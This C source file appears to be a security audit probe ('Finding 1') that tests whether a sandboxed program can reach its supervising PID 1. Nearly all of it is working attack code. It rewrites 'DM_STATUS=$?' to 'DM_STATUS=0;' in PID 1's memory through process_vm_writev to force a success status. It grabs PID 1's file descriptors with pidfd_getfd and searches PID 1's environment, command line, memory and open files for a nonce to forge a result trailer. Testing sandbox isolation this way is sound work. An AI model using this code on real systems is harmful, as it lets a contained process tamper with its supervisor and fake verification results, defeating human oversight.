/* Finding 1, the other doors into PID 1: process_vm_readv/writev (patch the script as in the
 * /proc/1/mem attack), pidfd_getfd, PID 1's open files, environment and command line (searched
 * for the nonce, answered with a trailer). Every fd the program itself holds is listed too. */
#include <dirent.h>
#include <sys/stat.h>
#include <sys/uio.h>

static const char want[] = "DM_STATUS=$?";
static const char repl[] = "DM_STATUS=0;";

static void list_fds(const char *dir) {
    DIR *d = opendir(dir);
    char what[512];
    snprintf(what, sizeof what, "opendir(%s)", dir);
    if (!d) { result(what, -1); return; }
    result(what, 0);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char path[300], target[256] = "";
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n > 0) target[n] = 0;
        snprintf(what, sizeof what, "open(%s -> %s, O_RDONLY|O_NONBLOCK)", path, n > 0 ? target : "?");
        int fd = (int)result(what, open(path, O_RDONLY | O_NONBLOCK));
        struct stat st, out, err;
        /* Reading our own stdout or stderr back would only eat this report. */
        if (fd >= 0 && fstat(fd, &st) == 0 && fstat(1, &out) == 0 && fstat(2, &err) == 0 &&
            (st.st_ino == out.st_ino || st.st_ino == err.st_ino)) {
            close(fd);
            fd = -1;
        }
        if (fd >= 0) {
            char buf[4096];
            snprintf(what, sizeof what, "read(%s)", path);
            ssize_t got = result(what, read(fd, buf, sizeof buf));
            char nonce[33];
            if (got > 0 && find_nonce(buf, (size_t)got, nonce, 0)) forge(nonce);
            close(fd);
        }
    }
    closedir(d);
}

static void search_file(const char *path) {
    char what[128];
    snprintf(what, sizeof what, "open(%s)", path);
    int fd = (int)result(what, open(path, O_RDONLY));
    if (fd < 0) return;
    static char buf[1 << 20];
    ssize_t got = read(fd, buf, sizeof buf);
    snprintf(what, sizeof what, "read(%s)", path);
    result(what, got);
    close(fd);
    char nonce[33];
    if (got > 0 && find_nonce(buf, (size_t)got, nonce, 0)) {
        say("RESULT nonce-in-%s = ok %s\n", path, nonce);
        forge(nonce);
    }
}

int main(void) {
    struct range r[256];
    int n = maps_of_pid1(r, 256);
    char probe[64];
    struct iovec local = {probe, sizeof probe}, remote = {(void *)(n > 0 ? r[0].lo : 0x400000), sizeof probe};
    result("process_vm_readv(1)", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
    result("process_vm_writev(1)", syscall(SYS_process_vm_writev, 1, &local, 1, &remote, 1, 0));
    int patched = 0;
    for (int i = 0; i < n; i++) {
        if (r[i].perms[0] != 'r' || r[i].perms[1] != 'w' || r[i].hi - r[i].lo > (8u << 20)) continue;
        size_t len = r[i].hi - r[i].lo;
        char *buf = malloc(len);
        struct iovec l = {buf, len}, rm = {(void *)r[i].lo, len};
        if (!buf || syscall(SYS_process_vm_readv, 1, &l, 1, &rm, 1, 0) != (long)len) { free(buf); continue; }
        for (size_t k = 0; k + sizeof want - 1 <= len; k++) {
            if (memcmp(buf + k, want, sizeof want - 1) != 0) continue;
            struct iovec pl = {(void *)repl, sizeof repl - 1}, pr = {(void *)(r[i].lo + k), sizeof repl - 1};
            if (result("process_vm_writev(1, script)", syscall(SYS_process_vm_writev, 1, &pl, 1, &pr, 1, 0)) > 0) patched++;
        }
        free(buf);
    }
    say("RESULT script-patched-by-process_vm = %s %d\n", patched ? "ok" : "fail errno=0", patched);
    int pidfd = (int)result("pidfd_open(1)", syscall(SYS_pidfd_open, 1, 0));
    for (int target = 0; pidfd >= 0 && target < 8; target++) {
        char what[64];
        snprintf(what, sizeof what, "pidfd_getfd(1, %d)", target);
        result(what, syscall(SYS_pidfd_getfd, pidfd, target, 0));
    }
    search_file("/proc/1/environ");
    search_file("/proc/1/cmdline");
    search_file("/proc/1/task/1/mem");
    list_fds("/proc/1/fd");
    list_fds("/proc/self/fd");
    return 3;
}
